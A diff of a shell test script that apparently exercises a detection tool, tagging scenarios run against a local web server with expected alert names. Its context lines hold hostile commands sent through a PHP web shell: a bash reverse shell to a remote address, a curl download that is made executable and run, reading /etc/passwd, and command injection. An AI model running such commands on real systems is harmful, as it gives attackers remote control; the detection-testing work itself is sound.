@@ -69,19 +69,19 @@ ask() { as_visitor curl -s -m 10 -o /dev/null -G "http://127.0.0.1:8080/$1" "${@
 scenario web_page "nginx and php-fpm start; pages and a missing one are asked for"
 web_page() { web_up; ask page.php; ask page.php; ask nothing.html; }
 
-scenario web_shell_tools "a PHP web shell runs tools that look around" web_server_shell
+scenario web_shell_tools "a PHP web shell runs tools that look around" web_server_discovery web_server_shell
 web_shell_tools() { web_up; ask shell.php --data-urlencode 'c=id; uname -a; cat /etc/passwd | head -n 2'; }
 
-scenario web_shell_callback "a PHP web shell is asked for a reverse shell in bash" web_server_shell
+scenario web_shell_callback "a PHP web shell is asked for a reverse shell in bash" reverse_shell_in_place web_server_child_connects web_server_discovery web_server_shell
 web_shell_callback() { web_up; ask shell.php --data-urlencode "c=bash -c 'bash -i >&/dev/tcp/$far_ip/9020 0>&1'"; }
 
-scenario web_shell_download "a PHP web shell fetches a program, makes it executable and runs it" web_server_shell
+scenario web_shell_download "a PHP web shell fetches a program, makes it executable and runs it" download_made_executable_run web_server_child_connects web_server_shell
 web_shell_download() {
   web_up
   ask shell.php --data-urlencode "c=cd /tmp && curl -s -o tool http://$far_ip/tool && chmod 755 tool && ./tool"
 }
 
-scenario web_upload_run "a script is uploaded through the application, and the next request runs it" web_server_shell
+scenario web_upload_run "a script is uploaded through the application, and the next request runs it" web_server_discovery web_server_shell web_upload_run
 web_upload_run() {
   web_up
   echo '<?php system("id"); ?>' >/home/visitor/new.php
@@ -108,13 +108,13 @@ web_pack() { web_up; ask pack.php; }
 scenario web_pack_by_shell "the application runs gzip through sh -c, as many do" web_server_shell
 web_pack_by_shell() { web_up; ask pack_by_shell.php; }
 
-scenario database_program "a database server runs a command for a query"
+scenario database_program "a database server runs a command for a query" database_shell
 database_program() { as "$guest_uid" /opt/database/postgres -e 'system("id; echo harmless >/dev/null")'; }
 
 scenario database_tool "a database server runs its own helper, without a shell"
 database_tool() { as "$guest_uid" /opt/database/postgres -e 'system("/usr/bin/gzip", "--version")'; }
 
-scenario node_injection "an application in node runs ls for a request; the name in it holds one more command"
+scenario node_injection "an application in node runs ls for a request; the name in it holds one more command" application_server_discovery
 node_injection() {
   node /opt/app.js &
   until_true listens 8090
